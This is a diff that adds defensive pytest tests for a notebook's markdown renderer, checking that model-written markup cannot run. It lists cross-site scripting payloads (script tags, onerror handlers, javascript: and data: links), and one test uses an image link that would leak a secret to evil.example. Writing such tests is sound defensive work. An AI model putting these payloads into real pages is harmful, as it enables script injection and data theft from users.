@@ -1,0 +1,60 @@
+"""What a model writes cannot run in the notebook."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from aof_nb.notebook.markdown import finished, to_html
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "[x](javascript:alert(1))",
+        "[x](data:text/html;base64,PHNjcmlwdD4=)",
+        "![x](javascript:alert(1))",
+        '[x](http://a.b "><img src=x onerror=alert(1)>")',
+        '![" onerror="alert(1)](http://a.b/c.png)',
+        "<details ontoggle=alert(1) open>",
+        "<style>*{display:none}</style>",
+        "```<b onclick=1>\n</code></pre><script>\n```",
+    ],
+)
+def test_markup_does_not_get_through(attack: str) -> None:
+    html = to_html(attack)
+    tags = re.findall(r"<\s*(\w+)([^>]*)", html)
+    assert not {name for name, _ in tags} & {"script", "img", "style", "details", "b"}
+    for _, attributes in tags:
+        assert not re.search(r"\son\w+\s*=", re.sub(r'"[^"]*"', '""', attributes))
+        assert "javascript:" not in attributes
+        assert "data:" not in attributes
+
+
+def test_images_are_links() -> None:
+    html = to_html("![leak](https://evil.example/?secret=1)")
+    assert "<img" not in html
+    assert "[image: leak]" in html
+    assert 'rel="noopener noreferrer"' in html
+
+
+@given(st.lists(st.sampled_from("ab \n#-`*>1.|~<[]()!:"), max_size=60).map("".join))
+def test_only_known_tags_come_out(text: str) -> None:
+    html = to_html(text)
+    known = {"p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code"}
+    known |= {"em", "strong", "s", "a", "br", "hr", "div", "table", "thead", "tbody", "tr"}
+    known |= {"th", "td"}
+    assert set(re.findall(r"</?(\w+)", html)) <= known
+
+
+def test_where_blocks_end() -> None:
+    assert finished("# Title\n\nA paragraph that goes o") == 0
+    assert finished("# Title\n\nA paragraph.\n") == 9
+    fence = "Text.\n\n```python\nprint(1)\n\n\nprint(2)\n"
+    assert finished(fence) == len("Text.\n\n")
+    assert finished(fence + "```\n\nMore\n") == len(fence + "```\n\n")
